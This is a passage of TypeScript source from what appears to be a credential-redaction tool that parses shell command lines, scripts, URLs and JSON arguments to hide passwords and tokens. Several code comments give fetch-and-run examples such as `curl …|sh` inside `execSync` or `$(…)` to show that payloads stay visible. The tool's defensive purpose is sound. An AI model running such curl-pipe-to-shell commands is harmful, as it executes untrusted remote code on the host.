        (!reading.quoted || proseCredential(secret))
      ) {
        const span = { start: password.at, end, name: password.name, sign: SecretSign.Flag };
        // A data word's password is hidden without the quotes, `;` and `)` written around it: the
        // `'"` of `sh -c "…; mysql -p'X'"` close its quote and the script, and stay in sight as written.
        const client = reading.data ? trimmedSpans(reading.value, dataPassword(reading.value, span)) : [span];
        if (client.length > 0) return client;
      }
      return (
        jsonWordSpans(reading, previous, hide, scriptName) ??
        wordSpans(
          reading,
          previous,
          previous && sameLine(reading, words[index - 2]),
          script,
          display,
          reading === words[index] && pairs.has(index),
        )
      );
    };
    // A quoted string's data word that opens a quote (`"pa` in `sh -c 'wget --password "pa ss X9"'`)
    // is read with the words up to its closing quote when that finds a value there.
    const run = word.data && word.quoted ? quotedRun(line, words, index) : undefined;
    const joined = run === undefined ? undefined : spansOf(run);
    if (run !== undefined && joined !== undefined && joined.length > 0) word = run;
    const read = word === run && joined !== undefined ? joined : spansOf(word);
    // The program's own assignment is preferred to a plain `NAME=value` reading of the same text
    // (`process.env.TOKEN='X'`: the value inside its quotes, named by the variable).
    // A program's expression that starts with no literal yields to a reading of the word that
    // hides it whole as written (`process.env.TOKEN=f('a b')`: the value of a `NAME=`) — but in the
    // display, when that value is the expression alone (blanks and closing brackets aside) and its calls are shown, the
    // expression is shown in its place, only its literals that may be credentials hidden
    // (`process.env.TOKEN=require('child_process').execSync('curl …|sh')`: the payload in sight).
    // One with no such literal is read only so, written whole, and then shown as written.
    const spans = preferring(
      programSpans(word).filter((span) => {
        if (!fromExpression.has(span)) return true;
        const own = span.written ?? {
          start: word.at[span.start] as number,
          end: (word.at[span.end - 1] as number) + 1,
        };
        const covering = read.filter(
          (other) =>
            other.end > other.start &&
            (word.at[other.start] as number) <= own.start &&
            (word.at[other.end - 1] as number) + 1 >= own.end,
        );
        if (covering.length === 0) return !noCredential.has(span);
        return (
          display &&
          span.shown !== undefined &&
          // Written apart by the shell's quoting, one with no literal in it may yet show one the
          // shell reads bare (`'…f('X')…'`): it stands in only when written whole.
          (!noCredential.has(span) || own.end - own.start === span.end - span.start) &&
          covering.every(
            (other) =>
              /^[\s)\]}]*$/.test(line.slice(own.end, (word.at[other.end - 1] as number) + 1)) &&
              line.slice(word.at[other.start] as number, own.start).trim() === "",
          )
        );
      }),
      read,
    );

    const { at: written } = word;
    const split = (span: Span) =>
      span.written === undefined &&
      span.end > span.start &&
      (written[span.end - 1] as number) - (written[span.start] as number) !== span.end - 1 - span.start;
    // Shown (never exported), a value read partly at run time keeps its run-time parts in sight,
    // its literal text hidden in place, stretch by stretch (r50 F1: a payload beside a credential).
    // One walk over the word for all its values (they stand in order).
    // A quoted command's own value (r50 F7) is read by the shell that runs it, from the value's start.
    const walk = { at: word.start, read: shellStepper(line) };
    // Where a value written apart is hidden: its text as written (see `writtenWhole`); when a quote
    // is open at one of its ends on a line that leaves no quote open, the word as written, quotes
    // and all (r51 F2: `$$'a\'X'x'`, `'…"a"+\'$(…)`); undefined when the line leaves one open.
    const wordWritten = { start: word.start, end: word.end };
    // The word's quotes, read once for all its values (each value asked in constant time).
    let quotes: WordQuotes | undefined;
    const quotesOf = () => (quotes ??= wordQuotes(line, word));
    const regionOf = (span: Span) =>
      writtenWhole(line, word, span, quotesOf()) ?? (openAtEnd(word.start) ? undefined : wordWritten);
    // A quoted string's data word's value is read so too (r56: `sh -c "srv --token abc\$X"`).
    if (display && ((word.dynamic && mixedWord(word)) || spans.some((span) => span.inner)))
      for (const span of spans) {
        if (
          span.end <= span.start ||
          span.written ||
          span.put !== undefined ||
          span.with !== undefined ||
          (word.data && split(span))
        )
          continue;
        const own = { start: written[span.start] as number, end: (written[span.end - 1] as number) + 1 };
        // Hidden with its whole word, a value is shown from its own first to last character, read
        // from the word's start (its quotes kept); else in its word, as it would be exported.
        const taken = split(span) && !span.inner && regionOf(span) === wordWritten;
        const region = split(span) && !taken ? (span.inner ? undefined : regionOf(span)) : own;
        const shown =
          region &&
          shownInPlace(
            line,
            span.inner
              ? { at: region.start, read: shellStepper(line) }
              : taken
                ? { at: word.start, read: shellStepper(line) }
                : walk,
            [region.start, region.end],
            (text) => named(text, span.name ?? ""),
            (text, quoted) =>
              shownShellPart(text, hide, (literal) => named(literal, span.name ?? ""), quoted),
          );
        if (shown === undefined || region === undefined) continue;
        span.written = region;
        span.shown = shown;
      }
    // Read partly at run time and written apart (`$X'hunter2'`): the text as written is hidden,
    // quotes and all (see `regionOf`); on a line that leaves a quote open the word is kept as
    // written (r50 F4: written again in '…', it would not fill back byte for byte).
    if (word.dynamic && !word.data)
      for (const span of spans)
        if (split(span) && span.put === undefined && span.with === undefined) {
          const whole = regionOf(span);
          if (whole) span.written = whole;
          else span.end = span.start;
        }
    // Written apart in a word read whole at once (`Password="x;y"X`): the value's text as written is
    // hidden, quotes and all, where no quote is open at either end, so it fills back byte for byte
    // (r63-6: the word was written again in '…', `'Password=${PASSWORD}'`, whose reference fills
    // back the value as the shell reads it, not as written).
    if (!word.dynamic && !word.data) {
      // A default's literal word read in place with literal text after its `}` (`${V:-TOKEN=QJ}\\`,
      // `${V:-TOKEN=QJ}x`): the value's own text hidden where it is written, piece by piece, its
      // braces kept (see `bracedPieces`), where it holds no quote (fix181: written again in '…', the
      // `${V:-` was dropped and the reference did not fill back byte for byte; fix182: hidden whole,
      // its `}` in the reference, the export left `${V:-` open, which a reader of references keeps
      // as written).
      const pieces = new Map<Span, Span[]>();
      for (const span of spans)
        if (split(span) && span.put === undefined && span.with === undefined) {
          const whole =
            writtenWhole(line, word, span, quotesOf()) ?? writtenInQuote(line, word, span, quotesOf());
          if (whole) span.written = whole;
          else if (word.defaults !== undefined && !openAtEnd(word.start)) {
            const own = bracedPieces(line, word, span);
            if (own) pieces.set(span, own);
          }
        }
      if (pieces.size > 0)
        spans.splice(0, spans.length, ...spans.flatMap((span) => pieces.get(span) ?? [span]));
    }
    // A URL written apart (a default's word read in place of `${X:-Q}`, a quote inside it): each
    // part it takes out hidden where it is written, the rest kept as written, so it fills back
    // byte for byte (fix173: the word was written again in '…', `'https://h/p?token=Q'`); see
    // `placedUrl`. Where the URL's parts are dropped (no `hide`, an export's names) only on a line
    // that leaves a quote open, each part then a reference, as the line's other values are (written
    // again in '…', the text after the quote was read out of the value and shown); and in the
    // display, each part a reference too (fix177: `"https://h/p?token=${V:-Q9x}"` was shown as
    // `https://h/p`, its quotes and its `${V:-` dropped, where the display with `hide` kept them).
    const refused = () => openAtEnd(word.start);
    const placing = hide !== undefined && hide !== naming?.hide;
    const put: SecretHide = hide ?? ((_secret, name) => reference(name ?? ""));
    for (const span of spans)
      if (
        span.with !== undefined &&
        span.put === undefined &&
        split(span) &&
        (placing || display || refused())
      ) {
        const placed = placedUrl(line, word, span, put, display, refused, quotesOf);
        if (placed) Object.assign(span, placed);
      }
    // A value hidden with its whole word hides every other value in the word with it.
    const wordTaken = spans.find((span) => span.written === wordWritten);
    if (wordTaken)
      for (const span of spans)
        if (span !== wordTaken && (span.written ?? wordWritten).end <= word.end) span.end = span.start;
    // Written apart (a quote or an escape inside the secret), or to be replaced by text holding a
    // quote or a backslash (a JSON word's string): the whole word is written again.
    const apart = spans.some((span) => split(span) || (span.put !== undefined && /['"\\]/.test(span.put)));
    // A substitution's word written apart is hidden whole as written, so it fills back byte for byte
    // (written again in '…', it would not, and in a backtick's text its escapes would be lost).
    if (apart && word.nested && word.start >= at) {
      keep(word.start);
      sign ??= spans[0]?.sign;
      out += named(line.slice(word.start, word.end), spans[0]?.name ?? "");
      at = word.end;
      return;
    }
    for (const span of apart ? [] : spans) {
      // A word read again after an opener left open overlaps the word read first: a span before
      // what is already written is left to that word.
      if (span.end <= span.start || (written[span.start] as number) < at) continue;
      if (span.written) {
        keep(span.written.start);
        sign ??= span.sign;
        out += span.shown ?? named(line.slice(span.written.start, span.written.end), span.name ?? "");
        at = span.written.end;
        // A program's expression runs to the word's end and past it: nothing after it is read.
        if (span.end === word.value.length) break;
        continue;
      }
      const secret = word.value.slice(span.start, span.end);
      keep(written[span.start] as number);
      sign ??= span.sign;
      out +=
        span.put ??
        (span.with !== undefined
          ? safeString(span.with, span.sign, undefined, hide, display)
          : named(secret, span.name ?? ""));
      at = (written[span.end - 1] as number) + 1;
    }
    if (apart && word.start >= at) {
      let value = "";
      let from = 0;
      // A program's expression read as written (the last span: it runs to the word's end) is
      // written after the word's text before it.
      const expression = spans.at(-1)?.written;
      for (const span of expression ? spans.slice(0, -1) : spans) {
        value += word.value.slice(from, span.start);
        const secret = word.value.slice(span.start, span.end);
        // The word is written again inside '…' (a reference holds a `$`), where the text that
        // fills a reference back is the secret with each `'` written `'\''`: named by that text,
        // so one name is never given two fill texts (`it's9x` in args, `'it'\''s9x'` here).
        value +=
          span.put ??
          (span.with !== undefined
            ? safeString(span.with, span.sign, undefined, hide, display)
            : named(secret.replace(/'/g, "'\\''"), span.name ?? ""));
        from = span.end;
      }
      value += word.value.slice(from, expression ? spans.at(-1)?.start : undefined);
      keep(word.start);
      sign ??= spans[0]?.sign;
      out +=
        /^[^\s'"\\;|&<>()$`]*$/.test(value) && value !== "" ? value : `'${value.replace(/'/g, "'\\''")}'`;
      at = word.end;
      if (expression) {
        out += named(line.slice(expression.start, expression.end), spans.at(-1)?.name ?? "");
        at = expression.end;
      }
    }
  });
  keep(line.length);
  return sign === undefined ? undefined : { sign, safe: out };
}

/** What `placedUrl` writes for each part a URL's reading takes out, to find where it stood. */
const PART_MARK = /\uE005(\d+)\uE005/g;

/**
 * A URL `span` of `word` (its `with`) whose value is written apart on `line`, with each part its
 * reading takes out (see `safeString`: a userinfo, a telling query value, a key shape; for the
 * display, the literal text beside a run-time part) hidden where that part is written, by what
 * `hide` returns, and every other character kept as written: quotes, escapes, a `${X:-` around a
 * default's word (`"https://h/p?token=${X:-Q}"` → `"https://h/p?token=${X:-<Q>}"`). A part
 * written apart itself is hidden as written, quotes and all, where no quote is open at either end
 * (`?token=${X:-Q}b7`, see `writtenWhole`), or to the word's end when the line leaves a quote open
 * (`refused`: the shell runs no such line; `?token=$(curl e|sh)'; srv2`, whose value runs on past
 * the quote); else there is no such place: undefined, and the word is written again in '…' as
 * before. One pass over the URL.
 */
function placedUrl(
  line: string,
  word: CommandWord,
  span: Span,
  hide: SecretHide,
  display: boolean,
  refused: () => boolean,
  quotes: () => WordQuotes,
): { written: { start: number; end: number }; shown: string } | undefined {
  const value = span.with ?? "";
  const parts: { secret: string; name: string | undefined }[] = [];
  const marked = safeString(
    value,
    span.sign,
    undefined,
    (secret, name) => {
      parts.push({ secret, name });
      return `\uE005${parts.length - 1}\uE005`;
    },
    display,
  );
  const at = word.at;
  const written = { start: at[span.start] as number, end: (at[span.end - 1] as number) + 1 };
  let shown = "";
  let from = written.start;
  let k = 0;
  let last = 0;
  for (const mark of marked.matchAll(PART_MARK)) {
    const kept = marked.slice(last, mark.index);
    const part = parts[Number(mark[1])];
    if (value.slice(k, k + kept.length) !== kept || part === undefined) return undefined;
    k += kept.length;
    if (value.slice(k, k + part.secret.length) !== part.secret) return undefined;
    last = (mark.index ?? 0) + mark[0].length;
    if (part.secret === "") continue;
    const start = at[span.start + k] as number;
    const end = (at[span.start + k + part.secret.length - 1] as number) + 1;
    k += part.secret.length;
    if (end - start !== part.secret.length) {
      // Written apart where no quote is open at either end (`?token=${X:-Q}b7`): its text as
      // written, quotes and all (see `writtenWhole`).
      const sub = {
        start: span.start + k - part.secret.length,
        end: span.start + k,
        name: part.name,
        sign: span.sign,
      };
      const whole = refused() ? undefined : writtenWhole(line, word, sub, quotes());
      if (whole === undefined && !refused()) {
        // Written apart inside a quote (`"…?token=x${X:-Q9}$(id)"`): each stretch of it written
        // together hidden where it stands, what stands between them (`${X:-`, `}`, a quote, an
        // escape: none of the value's characters) kept, so it fills back byte for byte (fix177: the
        // word was written again in '…', `'…?token=xQ9$(id)'` filled back).
        let run = start;
        for (let j = 1; j <= part.secret.length; j += 1) {
          const here = at[sub.start + j - 1] as number;
          const next = j < part.secret.length ? (at[sub.start + j] as number) : -1;
          if (next === here + 1) continue;
          shown += line.slice(from, run) + hide(line.slice(run, here + 1), part.name);
          from = here + 1;
          run = next;
        }
        written.end = Math.max(written.end, from);
        continue;
      }
      if (whole === undefined || whole.start < from) {
        if (!refused()) return undefined;
        shown += line.slice(from, start) + hide(line.slice(start, word.end), part.name);
        return { written: { start: written.start, end: word.end }, shown };
      }
      shown += line.slice(from, whole.start) + hide(line.slice(whole.start, whole.end), part.name);
      from = whole.end;
      written.end = Math.max(written.end, whole.end);
      continue;
    }
    shown += line.slice(from, start) + hide(part.secret, part.name);
    from = end;
  }
  if (value.slice(k) !== marked.slice(last) || from > written.end) return undefined;
  return { written, shown: shown + line.slice(from, written.end) };
}

/**
 * The indices of `words` (a line's, see `commandWords`) that hold a POSIX shell's own command
 * (`sh -c '…'`, `bash -lc "…"`; see `scriptPlaces`), read with the line's words as a shell reads them.
 */
function shellScriptWords(words: readonly CommandWord[]): Set<number> {
  const indices: number[] = [];
  const values: string[] = [];
  // Whether the last program named before each word is a POSIX shell.
  const shells: boolean[] = [];
  let shell = false;
  words.forEach((word, index) => {
    if (word.operator || word.data) return;
    indices.push(index);
    values.push(word.value);
    shells.push(shell);
    const name = programName(word.value);
    if (POSIX_SHELLS.has(name)) shell = true;
    else if (name === "ssh" || SCRIPT_PROGRAM.test(name)) shell = false;
  });
  const found = new Set<number>();
  for (const [k, place] of scriptPlaces(values))
    if (place.kind === "script" && place.at === 0 && shells[k]) found.add(indices[k] as number);
  return found;
}

/**
 * For the display only: a POSIX shell's own command holding a run-time part and written in one
 * `'…'`, or in `"…"` with no backslash (so its text as written is what that shell reads, the outer
 * shell's run-time parts aside), read as a command line of its own, as a top-level line is (a value read partly at run
 * time: its literal text hidden in place, its run-time parts shown), each word also read for what
 * a config line says (see `dataSpans`), and written back in its quotes. Undefined when it is written
 * otherwise, nothing in it is flagged, or past `SUBSTITUTION_DEPTH` (then read as the line's words are).
 */
function shownScript(line: string, word: CommandWord, hide: SecretHide | undefined): ArgFound | undefined {
  const written = line.slice(word.start, word.end);
  const quote = written[0] as string;
  const inner = written.slice(1, -1);
  // In "…", a backslash with no nested run-time part: read with its escapes undone.
  if (
    quote === '"' &&
    written.length >= 2 &&
    written.at(-1) === quote &&
    inner.includes("\\") &&
    !inner.includes(MARK) &&
    !/`|\$[({[]/.test(inner)
  )
    return deeper(
      () => {
        const found = shownEscapedScript(line, word.start + 1, word.end - 1, hide, word.value);
        return found && { sign: found.sign, safe: quote + found.safe + quote };
      },
      () => undefined,
    );
  // A backslash in "…" (it may change what the command's shell reads: `\"`, `\\`, `\$`), or no
  // run-time part (no mixed value): left to the words. In '…' the command's shell reads a backslash
  // as written, so the command is read as the same command alone is (r74d: `sh -c 'srv
  // ${V:-TOKEN=Q\${X}J}'`, left to the words, was shown in clear: a data word's value is hidden only
  // when it reads as a credential).
  if (
    !/[$`]/.test(inner) ||
    inner.includes(MARK) ||
    written.length < 2 ||
    (quote !== "'" && quote !== '"') ||
    written.at(-1) !== quote ||
    inner !== word.value ||
    (quote === '"' && inner.includes("\\"))
  )
    return undefined;
  return deeper(
    () => {
      // Read first with a mark for each hidden text, so that what is shown is known to fill back
      // byte for byte (a word the reader writes again in '…' would not, inside these quotes): else
      // left to the words. Then read for what is shown.
      // A command its shell refuses, holding a telling name's literal value (`sh -c 'srv --token
      // ${V:-X'`), is read by the refused-line rule, as the same command given alone is (fix183: its
      // reading as a command line flagged nothing, `X` shown in clear; see `refusedLineTells`).
      const refused = refusedLineTells(inner);
      const read = (put: SecretHide | undefined) =>
        refused
          ? lineSecrets(inner, put, () => "SHELL_COMMAND", true, true)
          : commandLineSecrets(inner, put, undefined, true, true);
      const hidden: { text: string; name: string | undefined }[] = [];
      const marked = read((text, name) => `${MARK}${hidden.push({ text, name }) - 1}${MARK}`);
      const marks = new RegExp(`${MARK}(\\d+)${MARK}`, "g");
      const text = (index: string) => (hidden[Number(index)] as { text: string }).text;
      if (marked === undefined || marked.safe.replace(marks, (_, index: string) => text(index)) !== inner)
        return undefined;
      // In "…" the shell that runs the line expands every `$` and backtick before the command's
      // shell reads it, a `'…'` inside included (`bash -c "srv --password 'abc$(curl …|sh)x'"`): a
      // hidden text holding one is shown as a value read partly at run time, its run-time parts in
      // sight and its literal text hidden in place, as written.
      if (quote === '"' && hidden.some((piece) => /[$`]/.test(piece.text))) {
        const named = (secret: string, name: string | undefined) =>
          hide ? hide(secret, name) : reference(name ?? "");
        const safe = marked.safe.replace(marks, (_, index: string) => {
          const { text: secret, name } = hidden[Number(index)] as { text: string; name: string | undefined };
          return (
            (/[$`]/.test(secret) ? shownOuterParts(secret, hide, name) : undefined) ?? named(secret, name)
          );
        });
        return { sign: marked.sign, safe: quote + safe + quote };
      }
      const found = read(hide);
      if (found === undefined) return undefined;
      return { sign: found.sign, safe: quote + found.safe + quote };
    },
    () => undefined,
  );
}

/**
 * For the display: `secret`, a text the reader of a POSIX shell's own command written in "…"
 * hides, as the shell that runs the line reads it inside those quotes (a `'` there is a
 * character): each run-time part shown (see `shownShellPart`), each stretch of literal text
 * between them hidden in place as written, so it fills back byte for byte. Undefined when no
 * run-time part stands whole in it.
 */
function shownOuterParts(
  secret: string,
  hide: SecretHide | undefined,
  name: string | undefined,
): string | undefined {
  const quoted = `"${secret}"`;
  const literal = (text: string) => (hide ? hide(text, name) : reference(name ?? ""));
  return shownInPlace(
    quoted,
    { at: 0, read: shellStepper(quoted) },
    [1, quoted.length - 1],
    literal,
    (text, inQuotes) => shownShellPart(text, hide, literal, inQuotes),
  );
}

/**
 * For the display only: a POSIX shell's own command written in one `"…"` holding a backslash (no
 * `$(…)`, `${…}`, `$[…]` or backtick, whose own escapes that shell reads otherwise), read with its
 * escapes undone (`\"`, `\\`, `\$`, `` \` `` as the character, a line join dropped), as the shell
 * running it reads it: a command line of its own (see `shownScript`), each text it hides mapped back
 * to where it is written and hidden there as written, so it fills back byte for byte and every other
 * character is kept as written (`sh -c "node -e \"process.env.TOKEN=f('X')\""`: the call in sight,
 * its literal hidden). `from` is where the command starts in `line` (after the opening quote), `to`
 * where it ends (the closing quote), `value` what the line's reader read there. Undefined when the
 * two readings differ, nothing is flagged, or what is shown is not the text with only hidden texts
 * replaced (left to the words).
 */
function shownEscapedScript(
  line: string,
  from: number,
  to: number,
  hide: SecretHide | undefined,
  value: string,
): ArgFound | undefined {
  let text = "";
  const map: number[] = [];
  for (let k = from; k < to; k += 1) {
    const after = line[k + 1];
    if (line[k] === "\\" && after === "\n") {
      k += 1;
      continue;
    }
    if (line[k] === "\\" && (after === "\\" || after === '"' || after === "$" || after === "`")) k += 1;
    text += line[k];
    map.push(k);
  }
  if (text !== value) return undefined;
  const hidden: { secret: string; name: string }[] = [];
  const marked = commandLineSecrets(
    text,
    (secret, name) => `${MARK}${hidden.push({ secret, name: name ?? "" }) - 1}${MARK}`,
    undefined,
    true,
    true,
  );
  if (marked === undefined) return undefined;
  // Each hidden text's place in `text`, read off the marked text, all else in it as `text` says.
  let safe = "";
  let at = from;
  let k = 0;
  for (const [index, piece] of marked.safe.split(MARK).entries()) {
    if (index % 2 === 0) {
      if (!text.startsWith(piece, k)) return undefined;
      k += piece.length;
      continue;
    }
    const { secret, name } = hidden[Number(piece)] ?? { secret: "", name: "" };
    if (secret === "" || !text.startsWith(secret, k)) return undefined;
    const start = map[k] as number;
    const end = (map[k + secret.length - 1] as number) + 1;
    const written = line.slice(start, end);
    safe += line.slice(at, start) + (hide ? hide(written, name) : reference(name));
    at = end;
    k += secret.length;
  }
  if (k !== text.length) return undefined;
  return { sign: marked.sign, safe: safe + line.slice(at, to) };
}

/** A word that is one shell assignment, `NAME=value` or `NAME+=value` (a pasted `command` of only `TOKEN=X`). */
const ASSIGNMENT_WORD = /^[A-Za-z_][A-Za-z0-9_]*\+?=/;

/** A word that is a flag given its value (`--token=X`, `-p=X`): no program's name. */
const FLAG_AND_VALUE = /^--?[A-Za-z][\w.-]*=/;

/** A character no pasted line holds (Unicode private use), marking a hidden text in `shownScript`. */
const MARK = "\uE001";

/** Another such character: what a display reading writes for each part it hides, to learn whether it hides any (`readArg`). */
const HIDDEN_MARK = "\uE003";

/** The command-line reader's rules for a name: its whole name tells (see `wholeNameTells`). */
const LINE_RULES: ArgRules = { ...ARG_RULES, telling: wholeNameTells };

/**
 * A word of a command line that is one line of JSON (`--config '{"apiKey":"X"}'`, Smithery's
 * snippet pasted as one `command`), read as an argument holding it is (see `jsonEdits`): a span
 * for each string to write again. Undefined when the word is no such JSON, or is all of a telling
 * flag's or name's value (`--token '{"a":"b"}'`, read whole by `ruleSpans`), or is a data word.
 */
function jsonWordSpans(
  word: CommandWord,
  previous: CommandWord | undefined,
  hide: SecretHide | undefined,
  scriptName: () => string,
): Span[] | undefined {
  const value = word.value;
  if (word.data || (value[0] !== "{" && value[0] !== "[" && !value.includes("="))) return undefined;
  const lead = JSON_ARG.exec(value);
  if (lead === null || LINE_BREAK.test(value)) return undefined;
  const flag = previous && !previous.operator && !previous.dynamic ? previous.value : undefined;
  if (tellingValue(value, flag, LINE_RULES)) return undefined;
  const found = jsonEdits(value.slice(lead[0].length), ARG_RULES, hide, scriptName);
  if (found === null) return undefined;
  const from = lead[0].length;
  return (found?.edits ?? []).map((edit) => ({
    start: from + edit.start,
    end: from + edit.end,
    name: undefined,
    sign: found?.sign ?? SecretSign.Flag,
    put: edit.safe,
  }));
}

/**
 * The words of `text` (a command line or a script) that give a client's password (see
 * `clientPasswords`), by index: each command (between operators or line breaks) read apart, and
 * each line of data words (see `CommandWord`) apart.
 */
function wordPasswords(text: string, words: readonly CommandWord[]): Map<number, ClientPassword> {
  const found = new Map<number, ClientPassword>();
  const line = clientPasswords();
  const data = clientPasswords();
  let group: number | undefined;
  let previous: CommandWord | undefined;
  words.forEach((word, index) => {
    // A line break between two words ends a command as `;` does (r92b: in `a\nmysql -pX`, a
    // script or a document's lines, `mysql` was read as `a`'s argument and `-pX` kept in clear).
    // A backslash before it continues the line, `\r\n` as `\n` (r92g: the `\n` of a Windows line's
    // `\` then `\r\n` was read as a break of its own, so `mysql -u root \` then `-pX` kept `-pX`).
    const gap = previous === undefined ? "" : text.slice(previous.end, word.start);
    previous = word;
    if (word.operator || breaksLine(gap)) line.reset();
    if (word.operator) return;
    if (!word.data) {
      const password = line.read(word.value);
      if (password !== undefined) found.set(index, password);
      return;
    }
    // The quote that opens a quoted string's line is no part of its first word (`'mysql -pX'`).
    let lead = 0;
    if (word.group !== group) {
      data.reset();
      group = word.group;
      if (word.quoted && /^["']/.test(word.value)) lead = 1;
    }
    // A data word written as it stands on the line holds the shell's operators (`x;mysql -pX`,
    // `(mysql`, `-p'X';echo`): each stretch between them is read as a word, a new command after each.
    const raw = !word.nested && word.value.length === word.end - word.start;
    const stretches = raw ? operatorStretches(word.value, lead) : [{ start: lead, end: word.value.length }];
    stretches.forEach((stretch, k) => {
      if (k > 0) data.reset();
      if (stretch.end <= stretch.start) return;
      const password = data.read(word.value.slice(stretch.start, stretch.end));
      if (password === undefined || found.has(index)) return;
      const end = stretch.end < word.value.length ? { end: stretch.end } : {};
      found.set(index, { ...password, at: stretch.start + password.at, ...end });
    });
  });
  return found;
}

/**
 * The stretches of `value` (a data word as written, from `from`) between the shell's operators
 * outside its quotes (`;`, `&`, `|`, `(`, `)`): one when it holds none, an empty one after an
 * operator that ends it. One pass.
 */
function operatorStretches(value: string, from: number): { start: number; end: number }[] {
  const stretches: { start: number; end: number }[] = [];
  let start = from;
  let close = "";
  for (let i = from; i < value.length; i += 1) {
    const c = value[i] as string;
    if (close !== "") {
      if (c === close) close = "";
    } else if (c === "\\") i += 1;
    else if (c === "'" || c === '"') close = c;
    else if (/[;&|()]/.test(c)) {
      stretches.push({ start, end: i });
      start = i + 1;
    }
  }
  stretches.push({ start, end: value.length });
  return stretches;
}

/**
 * Reads each argument (see `readArg`); one that holds a program's own command or program text
 * (see `scriptPlaces`, read with the words of `command` before the args) is kept or replaced whole
 * (see `shellScript`) — a base64 `-EncodedCommand` always replaced. ssh's remote command given as
 * several words is judged joined, as ssh sends it, and when it may hold a credential each word is
 * replaced whole by a reference of its own (the args keep their count).
 */
export function scanArgs(
  at: string,
  args: readonly string[],
  found: (path: string, sign: SecretSign, index: number, safe: string) => void,
  hide?: SecretHide,
  scriptName: () => string = () => "SHELL_COMMAND",
  command?: string,
): void {
  const lead = command === undefined ? [] : commandWordValues(command);
  const words = [...lead, ...args];
  const places = scriptPlaces(words);
  // ssh's remote command given as words (`ssh db mysql -uroot -pX`): the run of its words that
  // ends the line, judged as the one command ssh sends.
  let remote = words.length;
  while (remote > 0 && places.get(remote - 1)?.kind === "remote") remote -= 1;
  const remoteSign =
    words.length - remote >= 2
      ? shellScript(words.slice(remote).join(" "), undefined, () => "")?.sign
      : undefined;
  // A client's password flag (`mysql -pX`, `sshpass -p X`), where the client is named in `command` or the args.
  const clients = clientPasswords();
  const passwords = words.map((word, index) => (places.has(index) ? undefined : clients.read(word)));
  const named = literalNamer(hide);
  args.forEach((arg, index) => {
    if (remoteSign !== undefined && lead.length + index >= remote) {
      // Each word replaced whole by its own reference: args keep their count, each filled back byte
      // for byte (an empty word, or one that is a reference already, is kept as it is).
      if (arg === "" || /^\$\{[A-Za-z_][A-Za-z0-9_]*\}$/.test(arg)) return;
      const name = scriptName();
      found(child(at, index), remoteSign, index, hide ? hide(arg, name) : reference(name));
      return;
    }
    const place = places.get(lead.length + index);
    // A shell's command or program text is one whatever it holds, a word with no whitespace too
    // (`node -e "require('./s')({password:'X'})"`, `bash -c "PGPASSWORD=X;psql"`): read as an
    // argument it could be rewritten inside; so is ssh's remote command given as one word
    // (`ssh db "PGPASSWORD=X;psql"`). Tight to its flag (`--eval=CODE`), the flag is kept.
    const script = place === undefined ? "" : arg.slice(place.at);
    const inner =
      place?.kind === "encoded" && script !== "" && !/^\$\{[A-Za-z_][A-Za-z0-9_]*\}$/.test(script)
        ? shellScript(script, hide, scriptName, true)
        : (place?.kind === "script" && script !== "") ||
            (place?.kind === "remote" && (/\s/.test(arg) || (words.length - remote === 1 && arg !== "")))
          ? shellScript(script, hide, scriptName)
          : null;
    const password = passwords[lead.length + index];
    if (inner === null && password !== undefined) {
      const secret = arg.slice(password.at);
      if (isLiteral(secret))
        found(
          child(at, index),
          SecretSign.Flag,
          index,
          arg.slice(0, password.at) + named(secret, password.name),
        );
      return;
    }
    // The word after a client's password (`sshpass -pX ssh`) is read as no flag's value.
    const previous =
      index > 0 && passwords[lead.length + index - 1] === undefined ? args[index - 1] : undefined;
    const read =
      inner === null
        ? (readArg(arg, previous, ARG_RULES, hide, scriptName) ?? flowArgSecrets(arg, hide))
        : inner && { sign: inner.sign, safe: arg.slice(0, place?.at ?? 0) + inner.safe };
    if (read) found(child(at, index), read.sign, index, read.safe);
  });
}

/**
 * An argument that is one YAML flow mapping and no JSON (`--config '{user: bob, password: X}'`,
 * r91d: kept in clear, where a JSON object is read by `jsonEdits`): each telling pair's value, as
 * a line of a document value is read (see `dataDocumentSecrets`). Undefined when it is no such
 * mapping or nothing in it tells.
 */
function flowArgSecrets(arg: string, hide: SecretHide | undefined): ArgFound | undefined {
  if (arg[0] !== "{" || LINE_BREAK.test(arg) || arg.length > KEPT_LINE) return undefined;
  try {
    // JSON, its numbers perhaps written as bare references by an export (`{"pin":${PIN}}`).
    JSON.parse(arg.replace(/\$\{[A-Za-z_][A-Za-z0-9_]*\}/g, "0"));
    return undefined;
  } catch {
    return dataLineSecrets(arg, hide);
  }
}

/**
 * A pasted command line holding a program's own command or program text (see `scriptPlaces`):
 * kept byte for byte, or replaced whole by one reference when it may hold a credential (see
 * `shellScript`; always with a base64 `-EncodedCommand`). Null when it holds no such command.
 */
export function pastedScript(
  command: string,
  hide: SecretHide | undefined,
  scriptName: () => string,
): ArgFound | undefined | null {
  const { words, places } = commandScripts(command);
  if (places.size === 0) return null;
  const found = shellScript(
    command,
    hide,
    scriptName,
    [...places.values()].some((place) => place.kind === "encoded"),
  );
  if (found) return found;
  // Each script also read as its own text, as when given as an argument (r56: in the line, a quoted
  // script's words are split at its blanks, `sh -c 'srv --token ${X:+a}$(b c)d'`).
  for (const [index, place] of places) {
    const sign = shellScript((words[index] as string).slice(place.at), undefined, () => "")?.sign;
    if (sign === undefined) continue;
    const name = scriptName();
    return { sign, safe: hide ? hide(command, name) : reference(name) };
  }
  return undefined;
}

/** A command line's words as a shell reads them (quotes read), operators and words read again left out. */
function commandWordValues(line: string): string[] {
  if (!/\s/.test(line)) return [line];
  return lineWords(line)
    .filter((word) => !word.operator && !word.data)
    .map((word) => word.value);
}

/**
 * The longest line whose reading `lineWords` and `commandScripts` keep: one string of a JSON
 * argument, a short argument or pasted line, read as a line by several readers in turn; a longer
 * one costs its own length each time anyway, and is not held once read.
 */
export const KEPT_LINE = 4096;

/** The last line `lineWords` split, and at what depth (see `KEPT_LINE`). */
let keptWords: { line: string; depth: number; words: readonly CommandWord[] } | undefined;

/**
 * `commandWords(line, depth)`, the last short line's kept: a string holding whitespace is split by
 * `pastedScript` (twice: `jsonEdits` asks it, then `readArgRest`) and by `commandLineSecrets` in
 * turn (r82d: three splits of each string of a JSON argument, a fifth of its cost). No reader
 * changes the words it is given (each maps or filters them into arrays of its own).
 */
function lineWords(line: string, depth = 0): readonly CommandWord[] {
  if (line.length > KEPT_LINE) return commandWords(line, depth);
  if (keptWords?.line !== line || keptWords.depth !== depth)
    keptWords = { line, depth, words: commandWords(line, depth) };
  return keptWords.words;
}

/** The last short line `commandScripts` read (see `KEPT_LINE`). */
